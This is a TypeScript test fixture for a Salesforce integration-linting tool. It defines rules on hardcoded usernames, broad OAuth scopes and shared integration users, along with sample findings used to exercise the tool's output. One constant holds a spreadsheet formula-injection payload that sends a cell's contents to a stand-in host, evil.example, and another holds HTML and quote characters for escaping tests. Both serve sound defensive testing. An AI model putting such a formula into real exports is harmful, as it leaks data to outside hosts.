import { createHash } from 'node:crypto';
import type { Finding, LintResult, RuleMeta, RuleSetting } from '../../../src/lint/types.js';

export const PROJECT_ROOT = '/home/ci/work/acme-salesforce';

export const NASTY = 'Opportunity.Amount_Locked bypasses on $User.Username = "sync@acme.com" && <b>\'x\'</b>';
export const FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")';

function fp(...parts: string[]): string {
  return createHash('sha256').update(parts.join('\u0000')).digest('hex');
}

type RuleEntry = RuleMeta & { severity: RuleSetting };

export const RULES: RuleEntry[] = [
  {
    id: 'hardcoded-integration-username',
    defaultSeverity: 'error',
    severity: 'error',
    summary: 'Automation that checks $User.Username or a user Id instead of a custom permission.',
    why: 'Usernames differ between sandboxes and production, and a bypass keyed on one user cannot be audited or granted.',
    howToFix:
      'Create a custom permission, grant it through the integration permission set, and test $Permission.<Name>.',
    docs: 'hardcoded-integration-username',
  },
  {
    id: 'oauth-broad-scope',
    defaultSeverity: 'warning',
    severity: 'warning',
    summary: 'Connected app requests the Full or Web OAuth scope.',
    why: 'An integration needs API access only; Full grants everything the user can do, including the UI.',
    howToFix: 'Request Api and RefreshToken only.',
    docs: 'oauth-broad-scope',
    references: [{ taxonomy: 'OWASP-NHI', id: 'NHI5', kind: 'relevant' }],
  },
  {
    id: 'shared-integration-user',
    defaultSeverity: 'error',
    severity: 'error',
    summary: 'Two integrations use the same username.',
    why: 'A shared user hides which system did what, and rotating its credentials breaks both.',
    howToFix: 'Give each external system its own API-only user.',
    docs: 'shared-integration-user',
    references: [
      { taxonomy: 'OWASP-NHI', id: 'NHI9', kind: 'superset' },
      { taxonomy: 'NIST-CSF', id: 'PR.AA', kind: 'superset' },
    ],
  },
  {
    id: 'license-allotment',
    defaultSeverity: 'note',
    severity: 'note',
    summary: 'Integration users exceed the Salesforce Integration license allotment.',
    why: 'Users past the allotment need a full license.',
    howToFix: 'Consolidate low-volume integrations or buy more Salesforce Integration licenses.',
    docs: 'license-allotment',
  },
  {
    id: 'api-only-user',
    defaultSeverity: 'error',
    severity: 'error',
    summary: 'Integration user without the API Only User permission.',
    why: 'An integration user that can log in to the UI is a phishing target.',
    howToFix: 'Enable ApiUserOnly (API Only User) in the integration permission set.',
    docs: 'api-only-user',
  },
];

const VR = 'force-app/main/default/objects/Opportunity/validationRules/Amount_Locked.validationRule-meta.xml';
const BILLING_APP = 'force-app/main/default/connectedApps/Billing_Sync.connectedApp-meta.xml';
const ETL_APP = 'force-app/main/default/connectedApps/Legacy_ETL.connectedApp-meta.xml';
const APEX = 'force-app/main/default/classes/LegacySync.cls';
export const SPACED_SPEC = 'integrations/billing sync.integration.yml';
const ERP_SPEC = 'integrations/erp.integration.yml';

export const FINDINGS: Finding[] = [
  {
    ruleId: 'hardcoded-integration-username',
    severity: 'error',
    message: "Apex class LegacySync compares UserInfo.getUserName() to 'etl@acme.com'.",
    fix: "Use FeatureManagement.checkPermission('Bypass_Legacy_Sync').",
    location: { path: APEX, line: 42, column: 17 },
    subject: { type: 'ApexClass', name: 'LegacySync', detail: 'etl@acme.com' },
    fingerprint: fp('hardcoded-integration-username', 'ApexClass', 'LegacySync', 'etl@acme.com'),
    suppressed: { kind: 'baseline', reason: 'accepted in baseline .sf-integration-lint-baseline.json' },
  },
  {
    ruleId: 'oauth-broad-scope',
    severity: 'warning',
    message: 'Connected app Billing_Sync requests the "Full" OAuth scope.',
    fix: 'Replace <scopes>Full</scopes> with Api and RefreshToken.',
    location: { path: BILLING_APP, line: 14, column: 9 },
    subject: { type: 'ConnectedApp', name: 'Billing_Sync', element: 'scopes', detail: 'Full' },
    fingerprint: fp('oauth-broad-scope', 'ConnectedApp', 'Billing_Sync', 'Full'),
  },
  {
    ruleId: 'oauth-broad-scope',
    severity: 'warning',
    message: 'Connected app Legacy_ETL requests the "Web" OAuth scope.',
    fix: 'Replace <scopes>Web</scopes> with Api.',
    location: { path: ETL_APP, line: 12, column: 9 },
    subject: { type: 'ConnectedApp', name: 'Legacy_ETL', element: 'scopes', detail: 'Web' },
    fingerprint: fp('oauth-broad-scope', 'ConnectedApp', 'Legacy_ETL', 'Web'),
    suppressed: { kind: 'config', reason: 'Decommissioned in Q3 & "tracked" in <JIRA-123>' },
  },
  {
    ruleId: 'hardcoded-integration-username',
    severity: 'error',
    message: NASTY,
    fix: "Create custom permission Bypass_Amount_Lock and test $Permission.Bypass_Amount_Lock instead of 'sync@acme.com'.",
    location: { path: VR, line: 6, column: 5 },
    subject: {
      type: 'ValidationRule',
      name: 'Opportunity.Amount_Locked',
      element: 'errorConditionFormula',
      detail: '$User.Username',
    },
    fingerprint: fp('hardcoded-integration-username', 'ValidationRule', 'Opportunity.Amount_Locked', '$User.Username'),
  },
  {
    ruleId: 'hardcoded-integration-username',
    severity: 'error',
    message: 'Formula tests $User.Id = "005000000000001"\u0007 (a bell, and\na line break).',
    location: { path: VR, line: 9, column: 5 },
    subject: {
      type: 'ValidationRule',
      name: 'Opportunity.Amount_Locked',
      element: 'errorConditionFormula',
      detail: '$User.Id',
    },
    fingerprint: fp('hardcoded-integration-username', 'ValidationRule', 'Opportunity.Amount_Locked', '$User.Id'),
  },
  {
    ruleId: 'license-allotment',
    severity: 'note',
    message: FORMULA,
    location: { path: SPACED_SPEC },
    subject: { type: 'IntegrationSpec', name: 'billing sync' },
    fingerprint: fp('license-allotment', 'IntegrationSpec', 'billing sync'),
  },
  {
    ruleId: 'shared-integration-user',
    severity: 'error',
    message: 'Username erp@acme.com is used by 2 integrations: erp, billing sync.',
    fix: 'Give erp its own user, e.g. erp.integration@acme.com.',
    location: { path: ERP_SPEC, line: 3, column: 3 },
    related: [{ path: SPACED_SPEC, line: 3, column: 3 }, { path: 'config/erp-user-def.json' }],
    subject: { type: 'IntegrationSpec', name: 'erp', element: 'user.username', detail: 'erp@acme.com' },
    fingerprint: fp('shared-integration-user', 'IntegrationSpec', 'erp', 'erp@acme.com'),
  },
];

export function makeResult(overrides: Partial<LintResult> = {}): LintResult {
  return {
    projectRoot: PROJECT_ROOT,
    findings: FINDINGS,
    summary: { files: 12, errors: 3, warnings: 1, notes: 1, suppressed: 1, baselined: 1 },
    rules: RULES,
    threshold: 'error',
    failed: true,
    expiredSuppressions: [
      {
        suppression: {
          rule: 'oauth-broad-scope',
          path: 'force-app/**/Old_*.connectedApp-meta.xml',
          reason: 'migration',
          expires: '2024-01-31',
        },
        message: 'Suppression of oauth-broad-scope for force-app/**/Old_*.connectedApp-meta.xml expired on 2024-01-31.',
      },
    ],
    durationMs: 1234,
    ...overrides,
  };
}

/** A clean run: nothing found but one baselined finding. */
export function cleanResult(): LintResult {
  return makeResult({
    findings: [FINDINGS[0]],
    summary: { files: 1, errors: 0, warnings: 0, notes: 0, suppressed: 0, baselined: 1 },
    failed: false,
    expiredSuppressions: [],
  });
}
